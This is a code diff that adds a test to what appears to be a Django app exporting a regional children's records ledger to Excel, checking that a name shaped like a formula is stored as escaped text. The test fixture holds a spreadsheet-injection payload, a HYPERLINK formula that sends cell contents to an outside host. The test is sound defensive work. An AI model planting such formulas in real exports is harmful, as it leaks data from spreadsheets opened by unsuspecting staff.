@@ -52,3 +52,15 @@ def test_ledger_lists_the_region_with_masked_ids_and_open_concerns(client, qinsh
     event = AuditEvent.objects.get(action="export")
     assert sorted(event.object_ids) == sorted([str(orphan.pk), str(plain.pk)])
     assert event.region_code == "140521"
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text(client, qinshui_officer):
+    from openpyxl import load_workbook as load
+
+    evil = '=HYPERLINK("//e.cn?"&A1,"点此")'
+    child = ChildFactory(family_name="", given_name=evil)
+    client.force_login(qinshui_officer)
+    body = b"".join(client.get(reverse("children-api:ledger")).streaming_content)
+    ws = load(io.BytesIO(body))["信息台账"]
+    cells = [row[2] for row in ws.iter_rows(min_row=3) if row[1].value == child.pk]
+    assert cells[0].data_type == "s" and cells[0].value == "'" + evil
